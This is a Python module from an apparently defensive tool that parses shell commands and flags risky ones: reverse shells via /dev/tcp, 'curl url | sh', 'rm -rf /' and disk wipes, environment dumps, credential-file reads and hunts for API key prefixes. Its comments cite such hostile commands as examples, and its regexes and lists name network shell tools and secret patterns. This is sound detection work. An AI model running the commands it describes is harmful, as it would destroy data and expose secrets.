"""What individual shell programs do: one handler per family of programs.

Each handler reads an unwrapped argument list and adds facts. Programs without a handler
get :meth:`Context.generic`: any credential store among their arguments counts as read.
"""

from __future__ import annotations

import base64
import binascii
import itertools
import re
import shlex
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from types import MappingProxyType
from urllib.parse import unquote

from aimds.rules.network import parse_destination
from aimds.rules.paths import (
    SensitivePlace,
    canonicalize_path,
    classify_path,
    is_recovery_data,
)
from aimds.rules.understanding.facts import Facts
from aimds.rules.understanding.globs import locate_place
from aimds.rules.understanding.keys import ACCOUNT_KEY_TAG, account_keys
from aimds.rules.understanding.sql import analyze_sql, is_sensitive_table
from aimds.rules.understanding.system_packages import MANAGERS, read_system_package
from aimds.types import Severity

__all__ = [
    "HANDLERS",
    "Context",
    "Session",
    "SimpleCommand",
    "embedded_commands",
    "history_off",
    "inline_code",
    "run_argv",
    "run_written",
    "url_facts",
]


@dataclass(slots=True, init=False)
class SimpleCommand:
    """One simple command with its words as they will be at run time.

    ``dynamic`` holds the words computed at run time (their source text stands in the
    argv); ``fetched`` those of them whose substitution downloads something; ``stdin`` the
    text fed to the command when it is known statically (here-doc, here-string, the output
    of ``echo ... | base64 -d``).
    """

    argv: list[str] = field(default_factory=list)
    reads: list[str] = field(default_factory=list)
    writes: list[str] = field(default_factory=list)
    piped_in: bool = False
    piped_out: bool = False
    here_string: bool = False
    stdin: str | None = None
    dynamic: set[str] = field(default_factory=set)
    fetched: set[str] = field(default_factory=set)
    stand_in: bool = False  # a group in a pipeline (``(curl x) | sh``), judged on its own

    def __init__(
        self,
        argv: list[str] | None = None,
        reads: list[str] | None = None,
        writes: list[str] | None = None,
        piped_in: bool = False,
        piped_out: bool = False,
        here_string: bool = False,
        stdin: str | None = None,
        dynamic: set[str] | None = None,
        fetched: set[str] | None = None,
        stand_in: bool = False,
    ) -> None:
        self.argv = [] if argv is None else argv
        self.reads = [] if reads is None else reads
        self.writes = [] if writes is None else writes
        self.piped_in = piped_in
        self.piped_out = piped_out
        self.here_string = here_string
        self.stdin = stdin
        self.dynamic = set() if dynamic is None else dynamic
        self.fetched = set() if fetched is None else fetched
        self.stand_in = stand_in


@dataclass(slots=True, init=False)
class Session:
    """What earlier commands of one command line did that later ones depend on:
    files downloaded (``curl -o /tmp/x && sh /tmp/x``)."""

    downloaded: set[str] = field(default_factory=set)
    downloads: int = 0
    cwd: str | None = None
    """The working directory an earlier ``cd`` moved to (``None``: where the line began)."""
    elsewhere: bool = False
    """An earlier command left the workspace (``cd /``) or pointed git at another tree
    (``GIT_WORK_TREE=/``): later commands no longer work on the workspace."""
    written: dict[str, str | None] = field(default_factory=dict)
    """Files written earlier in the line, with their content where it is known statically
    (``echo 'rm -rf /' > x.sh``): running one runs that content."""

    def wrote(self, path: str, content: str | None) -> None:
        """``content`` written (or appended) to ``path``; ``None``: not known statically."""
        if len(self.written) >= 32 and path not in self.written:
            return
        before = self.written.get(path, "")
        self.written[path] = None if before is None or content is None else before + content

    def __init__(
        self,
        downloaded: set[str] | None = None,
        downloads: int = 0,
        cwd: str | None = None,
        elsewhere: bool = False,
        written: dict[str, str | None] | None = None,
    ) -> None:
        self.downloaded = set() if downloaded is None else downloaded
        self.downloads = downloads
        self.cwd = cwd
        self.elsewhere = elsewhere
        self.written = {} if written is None else written

    def fetched(self, path: str) -> bool:
        """Whether ``path`` was downloaded, or lies in a directory a downloaded archive was
        extracted to (recorded with a trailing ``/``)."""
        return path in self.downloaded or any(
            d.endswith("/") and path.startswith(d) for d in self.downloaded
        )

    def fetched_on_path(self, name: str) -> bool:
        """Whether a bare command name runs a file downloaded into a ``bin`` directory
        (``curl -o ~/.local/bin/k URL; k``): the shell finds it on ``PATH``."""
        return any(
            d.rsplit("/", 1)[-1] == name and d.rsplit("/", 2)[-2:-1] in (["bin"], ["sbin"])
            for d in self.downloaded
        )


_ASSIGN = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
_SECRET_VAR = re.compile(
    r"\$\{?([A-Za-z_]*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|PRIVATE_KEY|"
    r"CREDENTIAL)[A-Za-z0-9_]*)",
    re.IGNORECASE,
)
_PASSWORD_VAR = re.compile(r"^[A-Za-z_]*(?:PASSWORD|PASSWD|PGPASS|PASS)=", re.IGNORECASE)
_VERSION_SUFFIX = re.compile(r"[\d.]+$")
_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "busybox", "csh", "tcsh"})
_INTERPRETERS = frozenset({"python", "node", "perl", "ruby", "php", "lua", "deno", "bun", "pwsh"})
_INLINE_FLAGS = frozenset({"-c", "-e", "-r", "--eval", "-E", "--command", "-Command", "eval"})
# Programs whose output comes from another machine: piped into a shell, it runs what that
# machine sent (``curl url | sh``; ``ssh host cat x | sh`` runs the remote output here).
_DOWNLOADERS_NET = frozenset(
    {"curl", "wget", "fetch", "aria2c", "http", "https", "xh", "nc", "ncat", "socat",
     "lwp-download", "lynx", "scp", "ftp", "tftp", "ssh", "rsh"}
)  # fmt: skip
_WRAPPERS_NOARG = frozenset(
    {"nohup", "time", "exec", "builtin", "setsid", "unbuffer", "caffeinate", "proxychains",
     "proxychains4", "torsocks", "stdbuf", "nice", "ionice", "strace", "ltrace", "watch",
     "chronic", "command", "then", "do", "else", "!", "{", "}"}
)  # fmt: skip
_WRAPPER_VALUE_FLAGS = {
    "nice": frozenset({"-n", "--adjustment"}),
    "ionice": frozenset({"-c", "-n", "-p", "--class", "--classdata"}),
    "watch": frozenset({"-n", "--interval", "-d"}),
    "strace": frozenset({"-o", "-e", "-p", "-s"}),
    "stdbuf": frozenset(),
}
_SUDO_VALUE_FLAGS = frozenset({"-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U", "-T", "-R"})
_SECRET_WORDS = re.compile(
    r"passw|passwd|secret|token|api[_-]?key|apikey|private[_ ]?key|credential|aws_access|"
    r"BEGIN [A-Z ]*PRIVATE|"
    # the prefixes well-known keys start with (AWS key ids, GitHub, GitLab, Stripe, Slack,
    # Google API keys), as written: ``grep -r AKIA ~`` hunts keys, ``grep -r asia ~`` words
    r"(?-i:\b(?:AKIA|ASIA)|ghp_|gho_|github_pat_|glpat-|sk_live|rk_live|xox[abpr]-|AIza)",
    re.IGNORECASE,
)
_WIDE_ROOTS = frozenset({"/", "/home", "/root", "/etc", "/var", "/opt", "/srv", "/mnt", "/Users"})
_AUTH_URL = re.compile(
    r"/(?:login|log-in|signin|sign-in|sign_in|auth|authenticate|authorize|oauth2?/token|token|"
    r"sessions?|api/auth\w*|wp-login\.php|j_security_check)(?:[/?#.]|$)",
    re.IGNORECASE,
)
_DATA_VALUE = re.compile(r"[A-Za-z0-9+/=_\-.~%:]{16,}")
_METADATA_CREDS = re.compile(
    r"security-credentials|identity/oauth2/token|service-accounts/[^/]+/token|"
    r"/metadata/identity|ram/security-credentials",
    re.IGNORECASE,
)
_BLOCK_DEVICE = re.compile(
    r"^/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|mapper/|md|dm-|loop|root|sr)[\w/-]*$"
)
_INLINE_PATH = re.compile(r"""(?:~|\.{0,2}/)?[\w.~@+-]*(?:/[\w.@+*-]+)+|[~\w.-]*\.env\b|id_rsa""")


_WRITE_METHODS = frozenset({"POST", "PUT", "PATCH"})
_URL_WORDS = re.compile(r"[^a-z0-9]+")
# Words of a URL path that name a consequential operation (the tool-name vocabulary of
# privileges, money, secrets, administration, execution and destruction; not ordinary
# objects such as users, settings or tickets)
_ENDPOINT_TEXT = (
    "admin admins administrator role roles permission permissions grant grants acl acls iam "
    "privilege privileges sudo sudoers superuser owner owners policy policies transfer "
    "transfers payout payouts payment payments charge charges refund refunds wire wires "
    "withdraw withdrawal withdrawals password passwords secret secrets credential credentials "
    "token tokens apikey apikeys destroy purge wipe truncate shutdown reboot deploy deploys "
    "deployment deployments exec execute shell command commands eval impersonate "
    "disable"
)
_ENDPOINT_WORDS = frozenset(_ENDPOINT_TEXT.split())


def carries_data(value: str) -> bool:
    """Whether a query value (``k=v``, percent-encoded) carries data: a long run of token
    characters with a digit, read after percent-decoding, so an encoded space splits words
    (``search=diffusion%20models`` is two words) while encoded data stays one run. A ``+``
    stays: it may be a form-encoded space or base64 sent as it is."""
    decoded = unquote(value) if "%" in value else value
    return _DATA_VALUE.search(decoded) is not None and any(c.isdigit() for c in decoded)


def url_facts(url: str, facts: Facts, *, method: str | None = None) -> None:
    """Facts of a URL an action contacts: host, metadata credentials, login endpoints,
    data carried in the query string."""
    dest = parse_destination(url)
    if dest is None:
        return
    facts.login_target(dest.host)
    facts.mark_outbound()
    if dest.kind == "metadata":
        facts.recon()
        if _METADATA_CREDS.search(url):
            facts.credential("cloud_metadata", Severity.CRITICAL)
    _, _, query = url.partition("?")
    if query and any(map(carries_data, query.split("&"))):
        facts.mark_outbound(payload=True)
    if _AUTH_URL.search(url.split("?", 1)[0].split("://", 1)[-1]) and method not in (None, "GET"):
        facts.tag("auth_attempt")
    if method == "DELETE":
        facts.tag("remote_delete")  # removes what the URL names, on a system not ours to undo
    elif method in _WRITE_METHODS and not _ENDPOINT_WORDS.isdisjoint(
        _URL_WORDS.split(url.split("?", 1)[0].split("://", 1)[-1].partition("/")[2].lower())
    ):
        # the path names the operation as a tool name does (``POST /admin/roles/x``,
        # ``POST /v1/transfers``, ``PUT /admin/policy``): a request that grants, pays,
        # administers, runs or destroys there
        facts.tag("consequential_endpoint")


@dataclass(slots=True, kw_only=True, init=False)
class Context:
    """What a handler needs: the facts to add to, where relative paths live, recursion."""

    facts: Facts
    cwd: str
    home: str
    recurse: Callable[[str], None]
    pipeline: list[SimpleCommand]
    # no default: one is built per simple command, and a compiled class would build a
    # default Session (with its set and dict) for every one before __init__ replaced it
    session: Session
    recurse_code: Callable[[str, str], None] | None = None

    def __init__(
        self,
        *,
        facts: Facts,
        cwd: str,
        home: str,
        recurse: Callable[[str], None],
        pipeline: list[SimpleCommand],
        session: Session,
        recurse_code: Callable[[str, str], None] | None = None,
    ) -> None:
        self.facts = facts
        self.cwd = cwd
        self.home = home
        self.recurse = recurse
        self.pipeline = pipeline
        self.session = session
        self.recurse_code = recurse_code

    # -------------------------------------------------------------- helpers

    @staticmethod
    def binary(word: str) -> str:
        name = word.rsplit("/", 1)[-1].rsplit("\\", 1)[-1].lower()
        if name.endswith(".exe"):
            name = name[:-4]
        if name[:6] in ("python", "pypy3") or name[:4] in ("perl", "ruby", "node"):
            name = _VERSION_SUFFIX.sub("", name) or name
        return name

    def place(self, arg: str) -> tuple[str, SensitivePlace | None] | None:
        """Canonical path and sensitive place of an argument that may be a path (a path
        that cannot even be canonicalised or matched is opaque, not passed)."""
        try:
            return self._place(arg)
        except ValueError:  # UnicodeError included: percent-escapes of invalid UTF-8
            _opaque(self, "a path that cannot be read")
            return None

    def _place(self, arg: str) -> tuple[str, SensitivePlace | None] | None:
        if not arg or arg.startswith("-") or "://" in arg or len(arg) > 1024:
            return None
        if arg.startswith("$") or arg == "__subst__":
            return None
        if "/" in arg or arg.startswith(("~", ".")) or "%" in arg or "\\" in arg:
            try:
                path = canonicalize_path(arg, cwd=self.cwd, home=self.home, resolve_symlinks=False)
            except ValueError:
                return None
            absolute = arg.startswith(("/", "~", "file:")) or self.cwd != "/"
            relative = arg
            while relative.startswith("./"):
                relative = relative[2:]
            return path, locate_place(path if absolute else relative or arg)
        place = locate_place(arg)
        if place is None:
            return None  # a bare word (``aux``, ``install``) is no path worth reporting
        return self.cwd.rstrip("/") + "/" + arg, place

    def read(self, arg: str, *, listing: bool = False) -> SensitivePlace | None:
        if self.socket_file(arg):
            return None
        found = self.place(arg)
        if found is None:
            return None
        self.facts.path_read(found[0], found[1], listing=listing)
        return found[1]

    def socket_file(self, arg: str) -> bool:
        """``/dev/tcp/HOST/PORT`` as a redirection target: a shell wired to the network."""
        if not (arg.startswith("/dev/tcp/") or arg.startswith("/dev/udp/")):
            return False
        self.facts.mark_outbound(payload=True)
        self.facts.tag("code_exec", "reverse_shell")
        self.facts.propose("net:connect", Severity.CRITICAL)
        parts = arg.split("/")
        if len(parts) > 3:
            self.facts.resource(parts[3])
        return True

    def write(self, arg: str) -> None:
        if self.socket_file(arg):
            return
        if arg in ("/dev/null", "/dev/stdout", "/dev/stderr", "-") or arg.isdigit():
            return
        if _BLOCK_DEVICE.match(arg):
            self.facts.tag("raw_device_write")
            self.facts.destroy(critical=True)
            self.facts.resource(arg)
            return
        found = self.place(arg)
        if found is not None:
            self.facts.path_write(found[0], found[1])

    def operands(self, argv: list[str]) -> list[str]:
        return [a for a in argv[1:] if not a.startswith("-")]

    def generic(self, argv: list[str], cmd: SimpleCommand) -> None:
        """Any credential store named among the arguments counts as read."""
        for arg in argv[1:]:
            if arg.startswith("--") and "=" in arg:
                arg = arg.split("=", 1)[1]
            elif arg.startswith("-"):
                continue
            if "/inet/tcp/" in arg or "/inet/udp/" in arg:  # gawk's network special files
                self.socket_file("/dev/tcp/" + arg.split("/inet/", 1)[1].split("/", 2)[-1])
                self.facts.tag("reverse_shell")
            self.read(arg)
        self.secret_vars(argv)

    def secret_vars(self, argv: list[str]) -> None:
        for arg in argv[1:]:
            if "$" in arg and _SECRET_VAR.search(arg):
                self.facts.credential("env")

    def unwrap(self, argv: list[str]) -> list[str]:
        """Strip launchers (sudo, env, nohup, timeout, xargs...) and assignments."""
        i = 0
        n = len(argv)
        while i < n:
            word = argv[i]
            if _ASSIGN.match(word):
                if _PASSWORD_VAR.match(word):
                    self.facts.tag("auth_attempt")
                i += 1
                continue
            name = self.binary(word)
            if name in ("sudo", "doas", "pkexec", "run0"):
                i = self._sudo(argv, i + 1)
                if i < 0:
                    return []
                continue
            if name == "env":
                j = i + 1
                while j < n and (argv[j].startswith("-") or _ASSIGN.match(argv[j])):
                    if argv[j] in ("-u", "--unset", "-C", "--chdir"):
                        j += 1
                    elif argv[j] in ("-S", "--split-string") and j + 1 < n:
                        self.recurse(argv[j + 1])
                        return []
                    j += 1
                if j >= n:
                    _env_read(self, argv[i:], ())
                    return []
                i = j
                continue
            if name == "timeout":
                j = i + 1
                while j < n and argv[j].startswith("-"):
                    j += 2 if argv[j] in ("-s", "--signal", "-k", "--kill-after") else 1
                i = j + 1
                continue
            if name == "xargs":
                j = i + 1
                while j < n and argv[j].startswith("-"):
                    short = argv[j] in ("-I", "-n", "-P", "-L", "-d", "-a", "-s", "-E", "-i")
                    j += 2 if short and len(argv[j]) == 2 else 1
                i = j
                continue
            if name in ("busybox", "toybox") and i + 1 < n and not argv[i + 1].startswith("-"):
                i += 1
                continue
            if name in ("chroot", "flock", "runuser"):
                if name != "flock":
                    self.facts.privilege()
                j = i + 1
                while j < n and argv[j].startswith("-"):
                    j += 2 if argv[j] in ("-u", "-g", "--userspec") else 1
                i = j + 1 if name != "runuser" else j
                if i < n and argv[i] == "--":
                    i += 1
                continue
            if name in _WRAPPERS_NOARG:
                if name == "command" and i + 1 < n and argv[i + 1] in ("-v", "-V"):
                    return []
                values = _WRAPPER_VALUE_FLAGS.get(name, frozenset())
                j = i + 1
                while j < n and argv[j].startswith("-"):
                    j += 2 if argv[j] in values else 1
                i = j
                continue
            break
        return argv[i:]

    def _sudo(self, argv: list[str], j: int) -> int:
        n = len(argv)
        shell = False
        plain = True  # no flag that picks another user, a shell or the caller's environment
        while j < n and argv[j].startswith("-"):
            flag = argv[j]
            if flag in ("-l", "--list", "-ll"):
                self.facts.recon()
                return -1
            if flag in ("-v", "-k", "-K", "--validate", "--reset-timestamp", "-V", "--version"):
                return -1
            if flag in ("-i", "-s", "--login", "--shell"):
                shell = True
            plain = plain and flag in ("-n", "--non-interactive", "-H", "--set-home")
            j += 2 if flag in _SUDO_VALUE_FLAGS else 1
        if j < n and argv[j] == "--":
            j += 1
        if plain and j < n and _repository_install(argv[j:]):
            # ``sudo apt-get install -y libpq-dev``: root is what a package install needs, and
            # the packages come from the repositories the system already trusts (signed by
            # the distribution); no privilege is gained beyond that install
            return j
        self.facts.privilege(critical=shell and j >= n)
        return j if j < n else -1


# ------------------------------------------------------------------- handlers

Handler = Callable[[list[str], SimpleCommand, Context], None]


def _flags(argv: list[str]) -> set[str]:
    """Short flags split into letters (``-rf`` -> r, f) plus long flags as written."""
    out: set[str] = set()
    for a in argv[1:]:
        if a.startswith("--"):
            out.add(a.split("=", 1)[0])
        elif a.startswith("-") and len(a) > 1:
            out.update(a[1:])
    return out


def _readers(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ctx.generic(argv, cmd)


def _listers(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    for arg in ctx.operands(argv):
        place = ctx.read(arg, listing=True)
        if (
            place is not None
            and place.kind == "system"
            or arg in ("/", "/home", "/root", "/etc", "/var/log", "/proc", "~root")
        ):
            ctx.facts.recon()


def _recon(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ctx.facts.recon()
    ctx.generic(argv, cmd)


def _ip(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    if len(argv) > 1 and argv[1][:1] in ("a", "r", "l", "n") and len(argv) <= 3:
        ctx.facts.recon()


def _env_dump(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    names = [a for a in argv[1:] if not a.startswith("-")]
    _env_read(ctx, argv, names if ctx.binary(argv[0]) == "printenv" else ())


def _set(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """``set`` alone, ``export -p``, ``declare -x``: the variables listed. ``set -x`` turns
    on tracing and lists nothing."""
    listing = ("-p",) if ctx.binary(argv[0]) == "set" else ("-p", "-x")
    if len(argv) == 1 or (len(argv) == 2 and argv[1] in listing):
        _env_read(ctx, argv, ())
    _history_evasion(argv, cmd, ctx)


# Variable names that hold secrets or lead to them (keys, tokens, passwords, connection URLs,
# the variables of cloud and service providers): looking one up reads a secret.
_SECRET_NAME = re.compile(
    r"secret|token|pass|pwd|key|cred|auth|priv|session|cookie|dsn|conn|salt|sign|cert|jwt|"
    r"bearer|hook|url|uri|aws|gcp|google|azure|github|gh_|gitlab|openai|anthropic|stripe|"
    r"slack|twilio|sendgrid|npm|pypi|docker|vault|database|db_|pg|mysql|redis|mongo|smtp|"
    r"mail|ldap|oauth|client|api",
    re.IGNORECASE,
)
_NAME_PATTERN = re.compile(r"\^?[A-Za-z_][A-Za-z0-9_]{1,63}(?:=|\$)?")
_LOOKUP_FLAGS = frozenset("iEFGwxncqsoe") | {"--ignore-case", "--extended-regexp", "--word-regexp"}


def _env_read(ctx: Context, argv: list[str], names: Sequence[str]) -> None:
    """The environment listed (``env``, ``printenv``, ``set``): a dump of every secret it
    holds, unless it is a lookup of named, non-secret variables (``printenv LANG``,
    ``env | grep -i ^LANG``) whose output does not leave the machine."""
    ctx.facts.recon()
    if names:
        if any(_SECRET_NAME.search(n) for n in names):
            ctx.facts.credential("env")
        return
    at = next(  # this command in its pipeline (``sudo env``: its argv ends with ``env``)
        (k for k, c in enumerate(ctx.pipeline) if c.argv[len(c.argv) - len(argv) :] == argv),
        None,
    )
    after = ctx.pipeline[at + 1 :] if at is not None else []
    if not after or not _name_lookup(ctx, after[0].argv) or _leaves(ctx, after):
        ctx.facts.credential("env")


def _name_lookup(ctx: Context, argv: list[str]) -> bool:
    """A ``grep`` that keeps only the lines of named, non-secret variables."""
    if not argv or ctx.binary(argv[0]) not in ("grep", "egrep", "fgrep", "rg"):
        return False
    patterns: list[str] = []
    i = 1
    while i < len(argv):
        arg = argv[i]
        if arg in ("-e", "--regexp"):
            patterns.append(argv[i + 1] if i + 1 < len(argv) else "")
            i += 2
            continue
        if arg.startswith("--"):
            if arg not in _LOOKUP_FLAGS:
                return False  # --invert-match, --after-context, --file...
        elif arg.startswith("-") and len(arg) > 1:
            if not set(arg[1:]) <= _LOOKUP_FLAGS:
                return False  # -v keeps everything else, -A/-B/-C the neighbours
        else:
            patterns.append(arg)
        i += 1
    if len(patterns) > 1 and "-e" not in argv and "--regexp" not in argv:
        return False  # a second operand is a file: not a filter of the listing
    names = [n for p in patterns for n in re.split(r"\\?\|", p)]
    return bool(names) and all(
        _NAME_PATTERN.fullmatch(n) and not _SECRET_NAME.search(n) for n in names
    )


def _leaves(ctx: Context, cmds: list[SimpleCommand]) -> bool:
    """Whether one of ``cmds`` sends what it reads off the machine."""
    return any(
        c.argv and ctx.binary(c.argv[0]) in _DOWNLOADERS_NET | _NETWORK_PROGRAMS | _SENDERS
        for c in cmds
    )


_SENDERS = frozenset({"ssh", "scp", "mail", "mailx", "sendmail", "swaks", "curl", "wget"})


def _echo(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ctx.secret_vars(argv)


def _grep(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ops = ctx.operands(argv)
    flags = _flags(argv)
    recursive = bool(flags & {"r", "R", "--recursive"}) or ctx.binary(argv[0]) in ("rg", "ag")
    pattern = ops[0] if ops else ""
    for target in ops[1:]:
        place = ctx.read(target)
        if place is None and recursive and _SECRET_WORDS.search(pattern):
            found = ctx.place(target)
            if found is not None and (found[0] in _WIDE_ROOTS or target in ("~", "$HOME")):
                ctx.facts.credential("search")
    if not ops[1:] and recursive and _SECRET_WORDS.search(pattern) and ctx.cwd in _WIDE_ROOTS:
        ctx.facts.credential("search")


def _find(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    i = 1
    starts: list[str] = []
    while i < len(argv) and not argv[i].startswith("-"):
        ctx.read(argv[i], listing=True)
        starts.append(argv[i])
        i += 1
    rest = argv[i:]
    for j, arg in enumerate(rest):
        value = rest[j + 1] if j + 1 < len(rest) else ""
        if arg in ("-name", "-iname", "-path", "-ipath", "-wholename", "-regex"):
            place = classify_path(value.replace("*", "x").lstrip("/"))
            if place is not None and place.credential_store:
                ctx.facts.credential(place.kind)
        elif arg == "-perm" and re.search(r"[-/+]?(?:[2467]\d{3}|u=s|g=s|\+s)", value):
            ctx.facts.recon()
        elif arg == "-delete":
            if not starts or not all(
                (s in (".", "./") and not ctx.session.elsewhere)
                or (s not in cmd.dynamic and _in_workspace(ctx, s))
                for s in starts
            ):
                ctx.facts.destroy(critical=True)
        elif arg in ("-exec", "-execdir", "-ok", "-okdir"):
            inner = []
            for word in rest[j + 1 :]:
                if word in (";", "+", "\\;"):
                    break
                inner.append(word)
            if inner:
                # ``{}`` is each file found: every start itself when nothing filters them
                # (``find / -exec rm -rf {} +`` is ``rm -rf /``), else a file below a start
                found = [_found_file(start, filtered=_filters(rest)) for start in starts or ["."]]
                argv_in = [w for word in inner for w in (found if word == "{}" else [word])]
                _dispatch(argv_in, SimpleCommand(argv=argv_in), ctx)


_FIND_FILTERS = frozenset(
    {"-name", "-iname", "-path", "-ipath", "-wholename", "-regex", "-iregex", "-newer",
     "-mtime", "-mmin", "-atime", "-amin", "-ctime", "-cmin", "-size", "-user", "-group",
     "-perm", "-empty", "-links", "-inum", "-samefile"}
)  # fmt: skip


def _filters(rest: list[str]) -> bool:
    """Whether a ``find`` expression selects some files (``-name '*'`` selects all)."""
    return any(
        arg in _FIND_FILTERS and not (arg in ("-name", "-iname") and value == "*")
        for arg, value in zip(rest, [*rest[1:], ""], strict=True)
    )


def _found_file(start: str, *, filtered: bool) -> str:
    return start.rstrip("/") + "/found" if filtered else start


_RM_WIDE = frozenset(
    {"/", "/*", "~", "~/", "*", ".", "..", "./*", "$HOME", "~/*", "${HOME}", "$HOME/",
     "${HOME}/", "$HOME/*", "${HOME}/*", "/.", "/./*"}
)  # fmt: skip
_RM_ROOT = frozenset(
    {"/", "/*", "~", "~/", "~/*", "$HOME", "${HOME}", "$HOME/", "${HOME}/", "$HOME/*",
     "${HOME}/*"}
)  # fmt: skip
_SYSTEM_DIRS = frozenset(
    {"/bin", "/boot", "/dev", "/etc", "/home", "/lib", "/lib32", "/lib64", "/opt", "/proc",
     "/root", "/sbin", "/srv", "/sys", "/usr", "/var", "/mnt", "/media", "/run", "/Users",
     "/System", "/Library", "/Applications", "/private", "/Windows", "/Program Files",
     "/Program Files (x86)", "/ProgramData"}
)  # fmt: skip


def _rm(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """A recursive delete is destructive; it is critical only for the root, a home or a
    system directory, or a wildcard at the top of one (``rm -rf build/`` is not)."""
    flags = _flags(argv)
    recursive = bool(flags & {"r", "R", "--recursive"}) or ctx.binary(argv[0]) == "rmdir"
    targets = ctx.operands(argv) or (["<stdin>"] if cmd.piped_in else [])
    for target in targets:
        if target in _RM_WIDE or "--no-preserve-root" in flags:
            ctx.facts.destroy(critical=True)
            ctx.facts.resource(target)
            if recursive and (target in _RM_ROOT or target == "/."):
                ctx.facts.tag("wipe_root")
            continue
        if target == "<stdin>" and _listed_in_workspace(ctx, cmd):
            continue
        if target not in cmd.dynamic and target != "<stdin>" and _in_workspace(ctx, target):
            found = ctx.place(target if "/" in target else "./" + target)
            ctx.facts.resource(found[0] if found is not None else target)
            continue
        bare = target not in cmd.dynamic and ctx.session.elsewhere and "/" not in target
        found = ctx.place("./" + target if bare else target)  # ``cd / && rm -rf etc``
        if found is None:
            if recursive:
                ctx.facts.destroy(critical=False)
                if target in cmd.dynamic or target.startswith("$"):
                    _opaque(ctx, "a recursive delete of a path computed at run time")
            else:
                ctx.facts.propose("fs:delete")
            continue
        path, place = found
        top = path.rstrip("/*") or "/"
        if path in _WIDE_ROOTS or top in _SYSTEM_DIRS or _is_home(top, ctx.home):
            ctx.facts.destroy(critical=True)
            if recursive and (top == "/" or _is_home(top, ctx.home) or top in ("/home", "/root")):
                ctx.facts.tag("wipe_root")
        ctx.facts.path_delete(path, place, recursive=recursive)
    if not targets:
        ctx.facts.propose("fs:delete")


_SCRATCH = ("/tmp/", "/var/tmp/")


def _home_scratch(home: str) -> tuple[str, ...]:
    """Caches under the home directory: their content is disposable by definition."""
    base = home.rstrip("/")
    return (base + "/.cache/", base + "/Library/Caches/")


_WINDOWS_DRIVE = re.compile(r"^[A-Za-z]:")


def _in_workspace(ctx: Context, target: str) -> bool:
    """A relative path that stays below the working directory, or a file under a scratch
    directory, that is no sensitive place: deleting it is everyday work
    (``rm -rf ./build``, ``rm -rf target/``, ``find . -name '*.pyc' -delete``)."""
    for home in ("~/", "$HOME/", "${HOME}/"):
        if target.startswith(home):  # a cache in the home directory is scratch too
            target = ctx.home.rstrip("/") + "/" + target[len(home) :]
            if not target.startswith(_home_scratch(ctx.home)):
                return False
            break
    if not target or target in _RM_WIDE or target.startswith(("-", "~", "$", "`", "\\")):
        return False
    if ctx.session.elsewhere and not target.startswith("/"):
        target = ctx.cwd.rstrip("/") + "/" + target  # after ``cd /``: ``etc`` is ``/etc``
    if _WINDOWS_DRIVE.match(target):
        return False  # ``C:\``, ``D:/data``: absolute, never the workspace
    absolute = target.startswith("/")
    scratch = next((d for d in (*_SCRATCH, *_home_scratch(ctx.home)) if target.startswith(d)), "")
    if absolute and not scratch:
        return False
    parts = [p for p in target.split("/") if p not in ("", ".")]
    inside = [p for p in target[len(scratch) :].split("/") if p not in ("", ".")]
    if not parts or ".." in parts or (absolute and not inside):
        return False
    if any(c in target for c in "*?[") and not (absolute and inside or parts)[0].strip("*?[]!."):
        return False  # a bare wildcard at the top of the workspace or of a scratch directory
    found = ctx.place(target) if absolute or "/" in target else None
    if found is not None and found[1] is not None:
        return False
    return classify_path("/".join(parts)) is None and not is_recovery_data(target)


_LISTERS = frozenset({"find", "fd", "ls", "git", "grep", "rg", "sort", "uniq", "head", "tail"})


def _listed_in_workspace(ctx: Context, cmd: SimpleCommand) -> bool:
    """Names piped into ``xargs rm`` by listers that only look inside the workspace
    (``find . -name '*.orig' | xargs rm -f``)."""
    upstream = [c for c in ctx.pipeline if c is not cmd and c.argv]
    if not upstream:
        return False
    for c in upstream:
        if ctx.binary(c.argv[0]) not in _LISTERS or c.dynamic:
            return False
        for arg in c.argv[1:]:
            if arg.startswith("-") or arg in (".", "./"):
                continue
            if arg.startswith(("/", "~", "$")) or ".." in arg.split("/"):
                return False
    return True


def _opaque(ctx: Context, _why: str) -> None:
    ctx.facts.tag("opaque")
    ctx.facts.propose("shell:opaque")


def _is_home(path: str, home: str) -> bool:
    """True for the user's home or any directory directly under ``/home`` or ``/Users``."""
    if path == home.rstrip("/"):
        return True
    head, _, name = path.rpartition("/")
    return bool(name) and head in ("/home", "/Users")


def _shred(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    if ctx.binary(argv[0]) == "wipefs":
        ctx.facts.tag("format_disk")
    ctx.facts.destroy(critical=True)
    for arg in ctx.operands(argv):
        found = ctx.place(arg)
        if found is not None:
            ctx.facts.resource(found[0])


def _disk(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    name = ctx.binary(argv[0])
    if name == "dd":
        for arg in argv[1:]:
            if arg.startswith("if="):
                ctx.read(arg[3:])
            elif arg.startswith("of="):
                target = arg[3:]
                if target.startswith("/dev/") and target not in ("/dev/null", "/dev/stdout"):
                    ctx.facts.destroy(critical=True)
                    ctx.facts.resource(target)
                    if _BLOCK_DEVICE.match(target):
                        ctx.facts.tag("raw_device_write")
                else:
                    ctx.write(target)
        return
    if name in ("fdisk", "sfdisk", "parted") and {"l", "--list"} & _flags(argv):
        ctx.facts.recon()
        return
    if name.startswith(("mkfs", "mke2fs", "mkswap", "format")):
        ctx.facts.tag("format_disk")
    ctx.facts.destroy(critical=True)


def _copy(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ops = ctx.operands(argv)
    if len(ops) < 2:
        ctx.generic(argv, cmd)
        return
    *sources, dest = ops
    for src in sources:
        ctx.read(src)
    ctx.write(dest)
    if ctx.binary(argv[0]) == "mv":
        for src in sources:
